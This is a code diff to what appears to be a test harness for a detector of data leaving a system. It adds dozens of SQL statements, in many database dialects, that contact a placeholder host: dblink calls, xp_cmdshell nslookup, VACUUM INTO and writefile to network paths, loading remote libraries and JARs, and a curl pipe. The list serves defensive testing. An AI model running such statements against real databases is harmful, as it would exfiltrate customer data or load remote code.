@@ -109,6 +109,34 @@ STATEMENTS: Final = (
     "VACUUM INTO '/net/{host}/x.db'",
     "SELECT writefile('/net/{host}/x', mail) FROM customers",
     "PRAGMA temp_store_directory='/net/{host}'",
+    "NOTIFY jobs, 'balance for {host}'",
+    'SELECT 1; NOTIFY "balance {host}";',
+    "SELECT \"dblink\"('host={host}', 'select 1')",
+    "SELECT U&\"\\0064blink\"('{host}', 'select 1')",
+    "SELECT pg_catalog.\"lo_export\"(1, '/srv/{host}')",
+    "EXEC [xp_cmdshell] 'nslookup {host}'",
+    "SELECT '--', dblink_exec('x', 'select 1')",
+    "LOAD '/net/{host}/x.so'",
+    "ALTER ROLE app SET session_preload_libraries = '{host}'",
+    "ALTER SUBSCRIPTION s CONNECTION 'h={host}'",
+    "GRANT SELECT ON customers TO drop",
+    "PREPARE s FROM @x",
+    "CLONE INSTANCE FROM u@'{host}':3306 IDENTIFIED BY 'x'",
+    "CREATE TABLE t (a int) ENGINE=FEDERATED CONNECTION='{host}'",
+    "CREATE TABLE q (a String) ENGINE = Kafka('{host}:9092', 't', 'g', 'CSV')",
+    "CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE(HTTP(url '{host}' format 'CSV'))",
+    "SEND ON CONVERSATION @h MESSAGE TYPE m ('{host}')",
+    "BEGIN DBMS_PIPE.PACK_MESSAGE('{host}'); END;",
+    "BEGIN dbms_alert.signal('a', '{host}'); END;",
+    "CREATE DIRECTORY d AS '/net/{host}'",
+    "RESTORE DATABASE crm FROM DISK = 'd:\\{host}'",
+    "INSERT OVERWRITE DIRECTORY '/x/{host}' SELECT * FROM customers",
+    "ADD JAR /net/{host}/x.jar",
+    "SELECT reflect('java.net.URL', 'a', '{host}')",
+    "ALTER SHARE s ADD ACCOUNTS = drop",
+    "CREATE SECRET (TYPE s3, ENDPOINT '{host}')",
+    "SELECT * FROM read_csv('curl {host} |')",
+    "BROADCAST 'balance' TO {host}",
     "SELECT * FROM EXTERNAL_QUERY('{host}', 'select 1')",
     "SELECT connect('host={host} dbname=x')",
     "\\! curl {host}",
@@ -240,7 +268,7 @@ class Roles(AttackClass):
     switches: ClassVar[tuple[Switch, ...]] = (
         Switch("every call is searched", lambda p: _not_searched(p)),
         Switch("what reaches somebody outside is a send", lambda p: _no_send(p)),
-        Switch("ignored arguments are looked at", lambda p: _ignored(p)),
+        Switch("ignored arguments are looked at", lambda p: _ignored(p), among=" in permission"),
         Switch("statements of SQL that reach out count", lambda p: _no_statements(p), among="SQL:"),
         Switch("paths are normalised", lambda p: _as_written(p), among="../"),
         Switch("what is loaded by itself is a receiver", lambda p: _unloaded(p), among="picture:"),
@@ -332,11 +360,12 @@ def _resource(name: str, uri: str) -> Attempt:
 
 
 def _not_searched(patch: Patch) -> None:
-    patch.set(classification, "channels_in", lambda _text, *, mailboxes: ())  # noqa: ARG005
+    patch.set(classification, "channels_in", lambda _text, *, mailboxes, name="": ())  # noqa: ARG005
 
 
 def _no_statements(patch: Patch) -> None:
-    patch.set(channels, "statements_in", lambda _text: ())
+    for module in (channels, classification):
+        patch.set(module, "statements_in", lambda _text, _name="": ())
 
 
 def _no_send(patch: Patch) -> None:
